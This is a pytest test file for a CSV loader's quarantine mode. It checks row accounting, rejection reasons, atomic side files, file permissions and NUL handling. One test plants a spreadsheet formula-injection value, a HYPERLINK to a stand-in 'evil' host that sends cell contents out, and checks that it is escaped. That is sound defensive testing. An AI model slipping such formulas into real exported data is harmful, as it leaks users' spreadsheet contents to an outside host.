"""on_error="quarantine": accepted + rejected = input rows, side file written atomically with reasons."""

from __future__ import annotations

import pandas as pd
import pytest

from tsinvest.loading import RowsRejectedWarning, load_events, load_logins, load_report, rejected_path_for

HEADER = "account_id,action,target_id,ts\n"
ROWS = [
    "1,like,00123,2026-03-02T10:00:00Z",  # ok
    "2,like,,2026-03-02T10:00:00Z",  # missing target
    "3,like,9,2026-03-02 10:00:00",  # naive
    "4,like,9",  # ragged
    "5,follow,9,2026-03-02T10:00:00+02:00",  # ok
    "6,like,9,1772445600",  # epoch
]


def test_accounting_and_side_file(tmp_path):
    path = tmp_path / "events.csv"
    path.write_text(HEADER + "\n".join(ROWS) + "\n", encoding="utf-8")
    with pytest.warns(RowsRejectedWarning, match="2 of 6 rows loaded, 4 rejected"):
        frame = load_events(path, on_error="quarantine")
    report = load_report(frame)
    assert report.rows_read == 6 and report.rows_loaded == 2 and report.rejected == 4
    assert report.rows_loaded + report.rejected == len(ROWS)
    assert frame["account_id"].tolist() == ["1", "5"]
    assert frame.attrs["tsinvest_rejected"] == 4

    side = rejected_path_for(path)
    assert report.rejected_path == str(side)
    rejected = pd.read_csv(side, dtype=str, keep_default_na=False)
    assert rejected["_row"].tolist() == ["2", "3", "4", "6"]
    assert rejected["account_id"].tolist() == ["2", "3", "4", "6"]
    assert rejected["target_id"].tolist()[0] == ""
    assert "target_id: required value is missing" in rejected["_reasons"][0]
    assert "naive" in rejected["_reasons"][1]
    assert "wrong number of fields" in rejected["_reasons"][2]
    assert "epoch" in rejected["_reasons"][3]
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_clean_input_writes_no_side_file(tmp_path):
    path = tmp_path / "events.csv"
    path.write_text(HEADER + ROWS[0] + "\n", encoding="utf-8")
    frame = load_events(path, on_error="quarantine")
    assert load_report(frame).rejected == 0 and len(frame) == 1
    assert not rejected_path_for(path).exists()


def test_dataframe_source_with_quarantine_path(tmp_path):
    frame = pd.DataFrame({"account_id": ["1", "2", "3"], "ts": ["2026-03-02T10:00:00Z", "bad", ""]})
    target = tmp_path / "out" / "rejected.csv"
    with pytest.warns(RowsRejectedWarning):
        loaded = load_logins(frame, on_error="quarantine", quarantine_path=target)
    assert len(loaded) + load_report(loaded).rejected == len(frame)
    assert pd.read_csv(target)["_row"].tolist() == [2, 3]


def test_duplicate_primary_ids_reject_every_copy(tmp_path):
    from tsinvest.loading import load_reports

    frame = pd.DataFrame({
        "report_id": ["r1", "r1", "r2"], "reporter_id": ["1", "2", "3"], "target_account_id": ["9", "9", "9"],
        "policy": ["spam"] * 3, "ts": ["2026-03-02T10:00:00Z"] * 3,
    })
    with pytest.warns(RowsRejectedWarning):
        loaded = load_reports(frame, on_error="quarantine", quarantine_path=tmp_path / "r.csv")
    assert loaded["report_id"].tolist() == ["r2"]


def test_side_file_is_formula_safe_and_private(tmp_path):
    import os

    path = tmp_path / "events.csv"
    path.write_text(
        HEADER + '=HYPERLINK("http://evil/?"&A1),like,9,bad-time\n1,like,00123,2026-03-02T10:00:00Z\n'
        "@SUM(1+1),like,9,\n",
        encoding="utf-8",
    )
    with pytest.warns(RowsRejectedWarning):
        frame = load_events(path, on_error="quarantine")
    side = rejected_path_for(path)
    assert (os.stat(side).st_mode & 0o777) == 0o600
    rejected = pd.read_csv(side, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert rejected["account_id"].tolist() == ["'=HYPERLINK(\"http://evil/?\"&A1)", "'@SUM(1+1)"]
    assert rejected["_row"].tolist() == ["1", "3"]
    assert len(frame) + len(rejected) == 3


def test_nul_in_a_comment_never_costs_the_event(tmp_path):
    path = tmp_path / "events.csv"
    path.write_text(
        "account_id,action,target_id,ts,text\n"
        '1,comment,v1,2026-03-02T10:00:00Z,"hi\x00there"\n2,share,v1,2026-03-02T10:00:00Z,\n',
        encoding="utf-8",
    )
    import warnings

    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        frame = load_events(path, on_error="quarantine")
    assert frame["action"].tolist() == ["comment", "share"]
    assert load_report(frame).rejected == 0 and not rejected_path_for(path).exists()
    assert [type(w.message).__name__ for w in caught] == ["ValuesCleanedWarning"]
